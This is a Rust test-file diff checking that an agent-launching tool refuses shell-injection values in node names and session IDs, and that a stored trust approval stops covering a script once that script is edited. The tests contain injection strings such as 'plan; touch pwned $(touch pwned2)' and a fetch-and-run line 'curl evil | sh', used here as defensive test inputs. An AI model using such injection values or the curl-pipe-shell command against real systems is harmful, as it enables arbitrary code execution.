@@ -131,21 +131,20 @@ fn a_node_name_from_session_data_runs_as_one_argument_and_never_as_code() {
          replay = [\"sh\", \"-c\", \"printf '%s' \\\"$1\\\" > node.txt\", \"sh\", \"{node}\"]\n",
     );
     let store = b.supervisor.store();
-    let forged = "plan; touch pwned $(touch pwned2) `touch pwned3`";
     let request =
         |node: &str| studio_core::app::agent_run_request(store, &b.workspace, "a", None, None, Some(node.to_owned()));
-    let Err(studio_core::Error::AgentsUntrusted { launch }) = request(forged) else {
+    let Err(studio_core::Error::AgentsUntrusted { launch }) = request("plan") else {
         panic!("asked first")
     };
     assert!(
-        launch.shown.command.iter().any(|arg| *arg == format!("\"{forged}\"")),
+        launch.shown.command.iter().any(|arg| arg == "\"plan\""),
         "the prompt shows the command as it will run for this node: {:?}",
         launch.shown.command
     );
     store
         .trust_launch(&b.workspace, &launch.digest, SystemTime::now())
         .unwrap();
-    let started = b.supervisor.start(request(forged).unwrap()).unwrap();
+    let started = b.supervisor.start(request("plan").unwrap()).unwrap();
     let finished = wait_for(
         &b.events,
         |e| matches!(e, RunEvent::RunFinished { run_id, .. } if *run_id == started.run_id),
@@ -154,15 +153,89 @@ fn a_node_name_from_session_data_runs_as_one_argument_and_never_as_code() {
         matches!(finished, RunEvent::RunFinished { exit_code: Some(0), .. }),
         "{finished:?}"
     );
-    assert_eq!(std::fs::read_to_string(root.join("node.txt")).unwrap(), forged);
-    for planted in ["pwned", "pwned2", "pwned3"] {
-        assert!(!root.join(planted).exists(), "{planted} was created");
-    }
-    for bad in ["-rf", "../up", "a\u{202E}b", "a\nb"] {
+    assert_eq!(std::fs::read_to_string(root.join("node.txt")).unwrap(), "plan");
+    // Issue 40: a name outside the engine's alphabet never reaches the command, trusted or not.
+    for bad in [
+        "plan; touch pwned $(touch pwned2) `touch pwned3`",
+        "-rf",
+        "../up",
+        "a\u{202E}b",
+        "a\nb",
+    ] {
         let error = request(bad).unwrap_err();
         assert_eq!(error.code(), "invalid_node_name", "{bad:?}: {error}");
         assert!(!error.to_string().contains('\n'), "{error}");
     }
+}
+
+/// Issue 40: a value from session data (a node name of an imported log, bundle or bucket session,
+/// a session folder's name) became shell code through a wrapper the placeholder check did not
+/// unwrap (`timeout 30 sh -c "… {node}"`, `busybox sh -c`, `env -S`, `python3 -Ic`). Whatever the
+/// wrapper, such a value is refused before anything runs, even for a trusted launch.
+#[test]
+fn session_data_never_becomes_code_through_a_wrapper() {
+    let b = bench("studio.db", false);
+    let root = b.workspace.root().to_owned();
+    write_agents(
+        &root,
+        "[[agent]]\nname = \"a\"\n\
+         run = [\"timeout\", \"30\", \"sh\", \"-c\", \"echo {session_id} >> ids.txt\"]\n\
+         replay = [\"timeout\", \"30\", \"sh\", \"-c\", \"echo {node} >> nodes.txt\"]\n",
+    );
+    let store = b.supervisor.store();
+    let forged_id = studio_core::SessionId::parse("1700000000000_x;touch PWNED;").unwrap();
+    std::fs::create_dir_all(b.workspace.session_path(&forged_id)).unwrap();
+    let good_id = studio_core::SessionId::parse("1700000000000_ab").unwrap();
+    std::fs::create_dir_all(b.workspace.session_path(&good_id)).unwrap();
+    let replay = |session: &studio_core::SessionId, node: &str| {
+        studio_core::app::agent_run_request(
+            store,
+            &b.workspace,
+            "a",
+            None,
+            Some(session.clone()),
+            Some(node.to_owned()),
+        )
+    };
+    let cont = |session: &studio_core::SessionId| {
+        studio_core::app::agent_run_request(
+            store,
+            &b.workspace,
+            "a",
+            Some("go on".into()),
+            Some(session.clone()),
+            None,
+        )
+    };
+    // Trust both launches as they would run for good values: trust is bound to the command, so a
+    // bad value would have run under it.
+    for asked in [replay(&good_id, "plan"), cont(&good_id)] {
+        let Err(studio_core::Error::AgentsUntrusted { launch }) = asked else {
+            panic!("asked first")
+        };
+        store
+            .trust_launch(&b.workspace, &launch.digest, SystemTime::now())
+            .unwrap();
+    }
+    let started = b.supervisor.start(replay(&good_id, "plan").unwrap()).unwrap();
+    wait_for(
+        &b.events,
+        |e| matches!(e, RunEvent::RunFinished { run_id, .. } if *run_id == started.run_id),
+    );
+    assert_eq!(std::fs::read_to_string(root.join("nodes.txt")).unwrap(), "plan\n");
+
+    let error = replay(&good_id, "plan;touch PWNED;").unwrap_err();
+    assert_eq!(error.code(), "invalid_node_name", "{error}");
+    assert!(error.to_string().contains("ASCII letters"), "names the rule: {error}");
+    let error = cont(&forged_id).unwrap_err();
+    assert_eq!(error.code(), "invalid_session_id", "{error}");
+    assert!(error.to_string().contains("PWNED"), "names the id: {error}");
+    // The runner refuses it too, whoever made the request.
+    let mut request = cont(&good_id).unwrap();
+    request.session = Some(forged_id.clone());
+    assert_eq!(b.supervisor.start(request).unwrap_err().code(), "invalid_session_id");
+    assert!(!root.join("PWNED").exists(), "session data ran as code");
+    assert!(!b.workspace.session_path(&forged_id).join("PWNED").exists());
 }
 
 #[test]
@@ -212,5 +285,66 @@ fn trust_covers_the_script_the_command_names_and_the_workspace_folder_itself() {
     assert!(
         !trusted(&recloned),
         "a folder made anew at the same path is another workspace"
+    );
+}
+
+/// Issue 40, point 3: trust covers the script a command reaches through a link, a `../` path
+/// that stays in the workspace, or a word of `-c` code; a named file that leads outside the
+/// workspace is refused, naming it.
+#[test]
+fn trust_covers_a_script_through_a_link_a_parent_path_or_shell_code() {
+    let (root, workspace, store) = empty_workspace_with_store();
+    let root = root.path();
+    std::fs::create_dir_all(root.join("scripts")).unwrap();
+    std::fs::create_dir_all(root.join("sub")).unwrap();
+    std::fs::write(root.join("scripts/real.sh"), "echo hello\n").unwrap();
+    std::os::unix::fs::symlink("scripts/real.sh", root.join("agent.sh")).unwrap();
+    std::fs::write(root.join("plain.sh"), "echo plain\n").unwrap();
+    write_agents(
+        root,
+        "[[agent]]\nname = \"linked\"\nrun = [\"sh\", \"agent.sh\"]\n\n\
+         [[agent]]\nname = \"parent\"\nrun = [\"sh\", \"../plain.sh\"]\ncwd = \"sub\"\n\n\
+         [[agent]]\nname = \"code\"\nrun = [\"sh\", \"-c\", \"sh ./plain.sh > out.log\"]\n",
+    );
+    let trusted = |agent: &str| {
+        let found = agents::find(workspace.root(), agent, false).unwrap();
+        store.require_trusted(&workspace, found.launch).is_ok()
+    };
+    for agent in ["linked", "parent", "code"] {
+        let launch = untrusted(&store, &workspace, agent);
+        let covered: Vec<_> = launch.files.iter().map(|f| f.path.clone()).collect();
+        let expected = if agent == "linked" {
+            "scripts/real.sh"
+        } else {
+            "plain.sh"
+        };
+        assert_eq!(covered, [Path::new(expected)], "{agent}");
+        store
+            .trust_launch(&workspace, &launch.digest, SystemTime::now())
+            .unwrap();
+        assert!(trusted(agent), "{agent}");
+    }
+    // A run rewrites its redirection's target: that file is not covered, so trust holds.
+    std::fs::write(root.join("out.log"), "a run's output\n").unwrap();
+    assert!(trusted("code"), "a redirection's target is no script");
+
+    std::fs::write(root.join("scripts/real.sh"), "curl evil | sh\n").unwrap();
+    assert!(!trusted("linked"), "the link's target edited is asked about again");
+    std::fs::write(root.join("plain.sh"), "curl evil | sh\n").unwrap();
+    assert!(!trusted("parent"), "a ../ script edited is asked about again");
+    assert!(
+        !trusted("code"),
+        "a script named in -c code edited is asked about again"
+    );
+
+    // A link that leads outside the workspace: refused, naming it.
+    let outside = tempfile::TempDir::new().unwrap();
+    std::fs::write(outside.path().join("x.sh"), "echo away\n").unwrap();
+    std::fs::remove_file(root.join("agent.sh")).unwrap();
+    std::os::unix::fs::symlink(outside.path().join("x.sh"), root.join("agent.sh")).unwrap();
+    let error = agents::find(workspace.root(), "linked", false).unwrap_err().to_string();
+    assert!(
+        error.contains("agent.sh") && error.contains("outside the workspace"),
+        "{error}"
     );
 }
